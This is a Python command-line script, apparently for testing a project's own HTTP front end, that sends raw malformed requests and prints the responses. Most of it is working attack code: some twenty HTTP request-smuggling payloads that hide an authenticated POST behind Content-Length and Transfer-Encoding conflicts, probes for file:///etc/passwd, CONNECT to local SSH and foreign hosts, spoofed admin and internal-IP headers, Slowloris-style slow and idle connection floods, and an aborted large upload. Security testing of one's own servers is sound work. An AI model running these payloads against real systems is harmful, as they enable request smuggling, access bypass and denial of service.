# Raw requests that no client library would send. Each command prints what came back, in short.
# usage: ask.py raw HOST PORT NAME      one malformed request by name: "STATUS answers closed|open"
#        ask.py smuggle HOST PORT TOKEN one line for each of HIDDEN: "STATUS answers NAME"
#        ask.py slow HOST PORT N        N connections that send a byte now and then: how long they live
#        ask.py idle HOST PORT N        N connections that say nothing, held until a line on standard input
#        ask.py cut HOST PORT TOKEN     an upload that breaks off half way
import re
import resource
import select
import socket
import ssl
import sys
import time

HEAD = b"GET /healthz HTTP/1.1\r\nHost: x\r\n"
POST = b"POST /healthz HTTP/1.1\r\nHost: x\r\n"
NEXT = b"GET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n"
RAW = {
    "plain": HEAD + b"\r\n",
    "length and chunks": POST + b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + NEXT,
    "two lengths": POST + b"Content-Length: 5\r\nContent-Length: 50\r\n\r\nhello" + NEXT,
    "an unknown coding": POST + b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + NEXT,
    "a folded line": HEAD + b"X-A: b\r\n Transfer-Encoding: chunked\r\n\r\n",
    "a space before the colon": POST + b"Content-Length : 5\r\n\r\nhello" + NEXT,
    "a length with a sign": POST + b"Content-Length: +5\r\n\r\nhello" + NEXT,
    "a bare line feed": b"GET /healthz HTTP/1.1\nHost: x\nConnection: close\n\n",
    "a header of 17 KiB": HEAD + b"X-A: " + b"a" * 17408 + b"\r\n\r\n",
    "a path of 9 KiB": b"GET /" + b"a" * 9216 + b" HTTP/1.1\r\nHost: x\r\n\r\n",
    "a path of 17 KiB": b"GET /" + b"a" * 17408 + b" HTTP/1.1\r\nHost: x\r\n\r\n",
    "1000 headers": HEAD + b"".join(b"X-%d: " % i + b"a" * 80 + b"\r\n" for i in range(1000)) + b"\r\n",
    "a NUL in a header": HEAD + b"X-A: a\0b\r\n\r\n",
    "no host": b"GET /healthz HTTP/1.1\r\n\r\n",
    "a header of 64 KiB": HEAD + b"X-A: " + b"a" * 65536 + b"\r\n\r\n",
    "another host in the address": b"GET http://evil.example/healthz HTTP/1.1\r\nHost: x\r\n\r\n",
    "an address without a path": b"GET http://evil.example HTTP/1.1\r\nHost: x\r\n\r\n",
    "another scheme": b"GET file:///etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n",
    "a proxy's word": b"CONNECT 127.0.0.1:22 HTTP/1.1\r\nHost: x\r\n\r\n",
    "two hosts": HEAD + b"Host: y\r\n\r\n",
    "nonsense": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" * 20,
}


def connect(host, port, tls=False):
    s = socket.create_connection((host, port), 10)
    if tls:
        context = ssl.create_default_context()
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        s = context.wrap_socket(s)
    return s


def read_all(s, seconds):
    got, end = b"", time.monotonic() + seconds
    s.settimeout(0.5)
    while time.monotonic() < end:
        try:
            piece = s.recv(65536)
        except TimeoutError:
            if got:
                return got, "open"
            continue
        except OSError:
            return got, "closed"
        if not piece:
            return got, "closed"
        got += piece
    return got, "open"


def raw(host, port, name):
    s = connect(host, port)
    s.sendall(RAW[name])
    got, end = read_all(s, 5)
    answers = re.findall(rb"HTTP/1\.[01] (\d+)", got)
    print(answers[0].decode() if answers else "none", len(answers), end)


def hidden(token):
    """A change by a token, inside of what is another request's body, or a lie about where that ends."""
    body = b'{"rack":"smuggled","unit":1}'
    inner = (b"POST /api/v1/locations HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer " + token.encode() +
             b"\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
    chunks = b"0\r\n\r\n" + inner
    post = b"POST /api/v1/locations HTTP/1.1\r\nHost: x\r\n"
    n = b"Content-Length: %d" % len(chunks)
    whole = b"%x\r\n" % len(inner) + inner + b"\r\n0\r\n\r\n"
    coded = b"Transfer-Encoding: chunked"
    return {
        "length and chunks": post + n + b"\r\n" + coded + b"\r\n\r\n" + chunks,
        "chunks and length": post + coded + b"\r\n" + n + b"\r\n\r\n" + chunks,
        "two lengths": post + n + b"\r\nContent-Length: 5\r\n\r\n" + chunks,
        "the same length twice": post + n + b"\r\n" + n + b"\r\n\r\n" + chunks,
        "lengths in a list": post + n + b", 5\r\n\r\n" + chunks,
        "a length in hexadecimal": post + b"Content-Length: 0x5\r\n\r\n" + chunks,
        "two codings": post + n + b"\r\n" + coded + b"\r\nTransfer-Encoding: identity\r\n\r\n" + chunks,
        "a coding in another case": post + n + b"\r\ntRANSFER-eNCODING: CHUNKED\r\n\r\n" + chunks,
        "a coding behind a tab": post + n + b"\r\nTransfer-Encoding:\tchunked\r\n\r\n" + chunks,
        "a coding behind a vertical tab": post + n + b"\r\nTransfer-Encoding: \x0bchunked\r\n\r\n" + chunks,
        "a coding in a folded line": post + n + b"\r\nX-A: b\r\n " + coded + b"\r\n\r\n" + chunks,
        "a coding behind a bare line feed": post + n + b"\r\nX-A: b\n" + coded + b"\r\n\r\n" + chunks,
        "a coding behind a bare return": post + n + b"\r\nX-A: b\r" + coded + b"\r\n\r\n" + chunks,
        "chunks of HTTP 1.0": post.replace(b"1.1", b"1.0") + n + b"\r\n" + coded + b"\r\n\r\n" + chunks,
        "a chunk of more than 64 bits": post + coded + b"\r\n\r\nfffffffffffffffff\r\n" + inner,
        "a chunk of less than nothing": post + coded + b"\r\n\r\n-1\r\n" + inner,
        "a request as a chunk": post + coded + b"\r\n\r\n" + whole,
        "a request behind an extension": post + coded + b"\r\n\r\n" + b"%x;a=b" % len(inner) + b"\n" + whole.split(b"\r\n", 1)[1],
        "a request as a body": post + b"Content-Length: %d\r\n\r\n" % len(inner) + inner,
        "a request as a body of GET": post.replace(b"POST", b"GET") + b"Content-Length: %d\r\n\r\n" % len(inner) + inner,
        "another host in the address": post.replace(b" /api", b" http://evil.example/api") + b"Content-Length: %d\r\n\r\n" % len(inner) + inner,
        "the words of our own front": post + b"X-Slipway-Listener: admin\r\nX_Slipway_Listener: admin\r\nX-Real-IP: local\r\n"
                                             b"Content-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(body) + body,
    }


def smuggle(host, port, token):
    for name, request in hidden(token).items():
        s = connect(host, port, True)
        try:
            s.sendall(request)
        except OSError:
            pass
        got, _ = read_all(s, 3)
        s.close()
        answers = re.findall(rb"HTTP/1\.[01] (\d+)", got)
        print(answers[0].decode() if answers else "none", len(answers), name)


def slow(host, port, n):
    live = {}
    poll = select.poll()
    start = time.monotonic()
    for _ in range(n):
        s = connect(host, port)
        s.sendall(b"GET / HT")
        live[s.fileno()] = s
        poll.register(s, select.POLLIN)
    while live and time.monotonic() - start < 30:
        for fd, _ in poll.poll(500):
            poll.unregister(fd)
            live.pop(fd).close()
        for s in list(live.values())[:: max(1, len(live) // 50)]:
            try:
                s.sendall(b"T")
            except OSError:
                pass
    print(len(live), int(time.monotonic() - start))


def idle(host, port, n):
    live = []
    for _ in range(n):
        try:
            s = socket.socket()
            s.setblocking(False)
            s.connect_ex((host, port))
            live.append(s)
        except OSError:
            break
    print(len(live), flush=True)
    sys.stdin.readline()


def cut(host, port, token):
    s = connect(host, port, True)
    s.sendall(b"POST /api/v1/images HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer " + token.encode() +
              b"\r\nContent-Length: 4194304\r\n\r\n" + b"x" * 2097152)
    s.close()


resource.setrlimit(resource.RLIMIT_NOFILE, (20000, 20000))
what, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
if what == "raw":
    raw(host, port, sys.argv[4])
elif what == "smuggle":
    smuggle(host, port, sys.argv[4])
elif what == "slow":
    slow(host, port, int(sys.argv[4]))
elif what == "idle":
    idle(host, port, int(sys.argv[4]))
else:
    cut(host, port, sys.argv[4])
